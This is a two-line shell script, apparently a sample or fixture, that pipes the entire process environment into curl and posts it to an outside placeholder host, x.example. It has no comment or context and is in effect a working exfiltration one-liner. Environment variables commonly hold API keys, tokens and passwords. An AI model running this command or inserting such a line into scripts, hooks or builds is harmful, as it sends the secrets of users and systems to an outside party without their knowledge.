#!/bin/sh
env | curl -d @- https://x.example
